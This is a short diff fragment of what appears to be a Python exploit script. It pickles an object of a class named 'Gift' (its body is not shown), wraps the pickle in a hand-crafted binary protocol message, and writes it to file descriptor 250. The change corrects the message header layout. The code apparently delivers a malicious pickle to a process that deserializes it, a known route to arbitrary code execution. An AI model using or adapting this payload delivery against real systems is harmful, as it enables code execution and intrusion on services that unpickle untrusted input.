@@ -14,7 +14,7 @@ class Gift:
 
 
 value = pickle.dumps(Gift())
-body = bytes([0]) + struct.pack("<IIIII", 0, 0, 0, 0, len(value)) + value
+body = bytes([0]) + struct.pack("<IIIIBQII", *[0] * 7, len(value)) + value
 body += struct.pack("<III", 0, 0, 5) + b"M" + struct.pack("<I", 0)
 body += b"\0" + struct.pack("<IQQ", 0, 0, 0)
 os.write(250, struct.pack("<IB", 1 + len(body), 0x5E) + body)
